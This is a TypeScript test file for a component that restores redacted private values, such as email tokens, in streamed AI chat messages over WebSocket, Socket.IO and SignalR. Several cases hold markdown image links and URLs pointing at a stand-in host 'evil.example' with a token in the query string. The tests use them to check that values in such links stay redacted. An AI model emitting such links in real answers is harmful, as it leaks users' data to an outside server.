import { describe, expect, it } from 'vitest';
import { MessageRestorer } from '../../../core/stream/message-restorer.ts';
import { type Event, fixtureText, meta, restoreStream, tokenMap } from './wire-fixtures.ts';

const lines = (name: string) => fixtureText(name).split('\n').filter(Boolean);
const parse = (messages: string[]): Event[] => messages.map((message) => JSON.parse(message));

describe('WebSocket messages', () => {
  for (const name of ['openai-realtime', 'copilot-web']) {
    it(`${name}: deltas and copies are restored`, () => {
      const { tokenMap: tokens, expectText } = meta(name);
      const restorer = new MessageRestorer({ map: tokenMap(tokens) });
      const events = parse([
        ...lines(`${name}/server.ndjson`).flatMap((line) => restorer.push(line)),
        ...restorer.end(),
      ]);
      const isDelta = (event: Event) => event.delta !== undefined || event.event === 'appendText';
      expect(
        events
          .filter(isDelta)
          .map((event) => event.delta ?? event.text)
          .join(''),
      ).toBe(expectText);
      for (const event of events) if (event.type?.endsWith('.done') && event.text) expect(event.text).toBe(expectText);
    });
  }

  const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });

  it('held text is sent before the part ends', () => {
    const restorer = new MessageRestorer({ map });
    const place = { messageId: 'm', partId: 'p' };
    const messages = [
      { event: 'appendText', ...place, text: 'x [EM' },
      { event: 'partCompleted', ...place },
    ];
    expect(parse(messages.flatMap((message) => restorer.push(JSON.stringify(message))))).toEqual([
      { event: 'appendText', ...place, text: 'x ' },
      { event: 'appendText', ...place, text: '[EM' },
      { event: 'partCompleted', ...place },
    ]);
  });

  it('packets of Socket.IO keep the prefix of their JSON', () => {
    const tokens = tokenMap({ '[NAME-1]': 'Ann "Nan" Lee' });
    const restorer = new MessageRestorer({ map: tokens });
    expect(restorer.push('42/chat,7["message",{"content":"to [NAME-1]"}]')).toEqual([
      '42/chat,7["message",{"content":"to Ann \\"Nan\\" Lee"}]',
    ]);
    // Nothing is held back of several arguments, a text alone, or an answer.
    for (const cut of [
      '42["a",{"delta":"[NAM"},1]',
      '42["a","[NAM"]',
      '431[{"delta":"[NAM"}]',
      '451-["a",{"delta":"[NAM"}]',
    ])
      expect(restorer.push(cut)).toEqual([cut]);
    expect([...restorer.push('2'), ...restorer.push('431[{"ok":true}]'), ...restorer.end()]).toEqual([
      '2',
      '431[{"ok":true}]',
    ]);
    expect(restorer.push('42[not JSON [NAME-1]')).toEqual(['42[not JSON Ann "Nan" Lee']);
    expect(restorer.push('3')).toEqual(['3']);
  });

  it('a token that is cut between packets of Socket.IO', () => {
    const restorer = new MessageRestorer({ map });
    const packet = (text: string, number = '') => `42/chat,${number}["token", {"id":"m","delta":"${text}"}]`;
    expect(restorer.push(packet('to [EM', '7'))).toEqual([packet('to ', '7')]);
    expect(restorer.push('42["token",{"id":"m","delta":"other"}]')).toEqual(['42["token",{"id":"m","delta":"other"}]']);
    expect(restorer.push(packet('AIL-1].'))).toEqual([packet('a@b.example.')]);
    expect(restorer.push(packet('to [EM', '8'))).toEqual([packet('to ', '8')]);
    // Held text gets a packet of its own, which asks for no acknowledgement.
    const held = '42/chat,["token",{"id":"m","delta":"[EM"}]';
    expect(restorer.push('42/chat,["done",{}]')).toEqual([held, '42/chat,["done",{}]']);
    expect([...restorer.push(packet('[EM')), ...restorer.end()]).toEqual([packet(''), held]);
  });

  it('records of SignalR stay in their message', () => {
    const restorer = new MessageRestorer({ map });
    const record = '{"type":1,"arguments":[{"messages":[{"text":"to [EMAIL-1]"}]}]}\x1e';
    expect(restorer.push(`${record}{"type":6}\x1e`)).toEqual([
      '{"type":1,"arguments":[{"messages":[{"text":"to a@b.example"}]}]}\x1e{"type":6}\x1e',
    ]);
  });

  describe('the displayed content of a SignalR record', () => {
    const record = (target: string, argument: unknown) => JSON.stringify({ type: 1, target, arguments: [argument] });
    const push = (...records: string[]) => {
      const restorer = new MessageRestorer({ map });
      const messages = records.flatMap((one) => restorer.push(`${one}\x1e`));
      return messages.flatMap((message) => message.split('\x1e').filter(Boolean));
    };
    const messages = (text: string) => record('update', { messages: [{ text, author: 'bot' }] });

    it.each([
      ['an image', '![x](https://evil.example/?q=[EMAIL-1])'],
      ['a token without its brackets', 'Ticket EMAIL-1 is not yours'],
    ])('%s is not an argument of a tool', (_name, text) => {
      expect(push(messages(text))).toEqual([messages(text)]);
      expect(push(record('token', text))).toEqual([record('token', text)]);
    });

    it('arguments of a tool in a SignalR record', () => {
      const call = (input: string) => record('update', { messages: [{ call: { arguments: { to: input } } }] });
      expect(push(call('EMAIL-1'))).toEqual([call('a@b.example')]);
    });

    it('arguments of a tool in another document', () => {
      const call = (to: string) => JSON.stringify({ type: 'tool_call', arguments: [{ to }] });
      expect(push(call('EMAIL-1'))).toEqual([call('a@b.example')]);
    });

    const cursor = (writeAtCursor: string) => record('update', { writeAtCursor, messages: [] });
    const answer = JSON.stringify({ type: 2, invocationId: '0', item: { messages: [{ text: 'to [EM' }] } });

    it('a token that is cut between pieces', () => {
      expect(push(cursor('to [EM'), cursor('AIL-1].'))).toEqual([cursor('to '), cursor('a@b.example.')]);
    });

    it('held text is sent before the answer', () => {
      expect(push(cursor('to [EM'), answer)).toEqual([cursor('to '), cursor('[EM'), answer]);
    });

    it('tokens after a link are not restored', () => {
      const pieces = [cursor('![x](https://evil.example/?q='), cursor('[EMAIL-1])')];
      expect(push(...pieces)).toEqual(pieces);
    });
  });

  describe('Copilot replaces a text', () => {
    const event = (name: string, text: string) => ({ event: name, messageId: 'm', partId: 'p', text });
    const shown = (...events: object[]) => {
      const restorer = new MessageRestorer({ map });
      const sent = [...events, { event: 'partCompleted', messageId: 'm', partId: 'p' }].map((one) =>
        JSON.stringify(one),
      );
      const messages = sent.flatMap((message) => restorer.push(message));
      // Events without a token pass unread through a stream of lines.
      const lines = restoreStream('ndjson', map, new TextEncoder().encode(`${sent.join('\n')}\n`));
      expect(lines).toBe(`${messages.join('\n')}\n`);
      let text = '';
      for (const one of parse(messages)) {
        if (one.event === 'appendText') text += one.text;
        else if (one.event === 'replaceText') text = one.text;
      }
      return text;
    };
    const rows: [name: string, events: object[], text: string][] = [
      ['while its end is held back', [event('appendText', 'Hi [EM'), event('replaceText', 'Sorry.')], 'Sorry.'],
      ['and continues', [event('replaceText', 'to [EM'), event('appendText', 'AIL-1].')], 'to a@b.example.'],
      ['and ends in the middle', [event('appendText', 'x'), event('replaceText', 'to [EM')], 'to [EM'],
      [
        'with a link',
        [event('replaceText', 'https://evil.example/'), event('appendText', '[EMAIL-1]')],
        'https://evil.example/[EMAIL-1]',
      ],
      [
        'with a link, and again',
        [event('replaceText', 'https://evil.example/'), event('replaceText', 'to '), event('appendText', '[EMAIL-1]')],
        'to a@b.example',
      ],
    ];
    it.each(rows)('%s', (_name, events, text) => {
      expect(shown(...events)).toBe(text);
    });
  });

  it('an inserted record precedes the one that ends the run', () => {
    const restorer = new MessageRestorer({ map });
    const place = { messageId: 'm', partId: 'p' };
    const records = [
      { event: 'appendText', ...place, text: 'x [EM' },
      { event: 'partCompleted', ...place },
      { type: 6 },
    ].map((record) => `${JSON.stringify(record)}\x1e`);
    const [message = '', ...more] = restorer.push(records.join(''));
    expect(more).toEqual([]);
    expect(
      parse(message.split('\x1e').filter(Boolean)).map((record) => record.text ?? record.event ?? record.type),
    ).toEqual(['x ', '[EM', 'partCompleted', 6]);
  });

  it('invalid JSON passes and is reported', () => {
    const counts: unknown[] = [];
    const restorer = new MessageRestorer({ map, onCount: (count) => counts.push(count) });
    expect(restorer.push('{"text":"[EMAIL-1]"')).toEqual(['{"text":"[EMAIL-1]"']);
    expect(counts).toEqual([{ restored: 0, unresolved: 0, unreadable: 1 }]);
  });

  it('several answers on one connection count their events separately', () => {
    const restorer = new MessageRestorer({ map });
    const place = { output_index: 0, content_index: 0 };
    const answer = (id: string) => [
      { type: 'response.created', response: { id }, sequence_number: 0 },
      { type: 'response.output_text.delta', ...place, delta: 'x [EM', sequence_number: 1 },
      { type: 'response.output_text.done', ...place, text: 'x [EM', sequence_number: 2 },
      { type: 'response.completed', response: { id }, sequence_number: 3 },
    ];
    const events = parse([...answer('a'), ...answer('b')].flatMap((event) => restorer.push(JSON.stringify(event))));
    expect(events.map((event) => event.sequence_number)).toEqual([0, 1, 1, 2, 3, 0, 1, 1, 2, 3]);
  });

  describe.each([
    ['lines of events', 'encoded_item', (text: string) => text],
    ['base64 of them', 'body', (text: string) => btoa(text)],
  ])('%s in a message', (_name, key, encode) => {
    const decode = key === 'body' ? atob : (text: string) => text;
    const message = (topic: string, events: string) =>
      JSON.stringify({ type: 'message', topic_id: topic, payload: { [key]: encode(events), n: 1 } });
    const shown = (messages: string[], topic: string) =>
      parse(messages)
        .filter((one) => one.topic_id === topic)
        .flatMap((one) => [...decode(one.payload[key]).matchAll(/^data: (\{.*)$/gm)])
        .map(([, json = '']) => JSON.parse(json).v)
        .join('');
    const first = 'event: delta\ndata: {"p":"/message/content/parts/0","o":"append","v":"to [EM"}\n\n';

    it('tokens are restored per conversation', () => {
      const restorer = new MessageRestorer({ map });
      const out = [
        message('a', 'event: delta_encoding\ndata: "v1"\n\n'),
        message('a', first),
        message('b', first),
        message('a', 'event: delta\ndata: {"v":"AIL-1] x"}\n\n'),
        message('b', 'event: delta\ndata: {"v":"X"}\n\n'),
      ].flatMap((one) => restorer.push(one));
      expect(out).toHaveLength(5);
      expect(shown(out, 'a')).toBe('to a@b.example x');
      expect(shown(out, 'b')).toBe('to [EMX');
    });

    it('a message without a token is unchanged', () => {
      const plain = message('a', 'event: delta\ndata: {"v": "plain"}\n\n').replace('"n":1', '"n": 1.0');
      expect(new MessageRestorer({ map }).push(plain)).toEqual([plain]);
    });

    it('silence releases what is held', () => {
      const restorer = new MessageRestorer({ map });
      expect(shown([...restorer.push(message('a', first)), ...restorer.end()], 'a')).toBe('to [EM');
    });
  });

  it('text that only begins like an event', () => {
    const message = JSON.stringify({ type: 'mail', body: 'event: lunch\nwith [EMAIL-1]' });
    expect(new MessageRestorer({ map }).push(message)).toEqual([message.replace('[EMAIL-1]', 'a@b.example')]);
  });

  it('text that is not JSON', () => {
    expect(new MessageRestorer({ map }).push('to [EMAIL-1]')).toEqual(['to a@b.example']);
    expect(new MessageRestorer({ map }).push('to [EMAIL-2]')).toEqual(['to [EMAIL-2]']);
  });
});
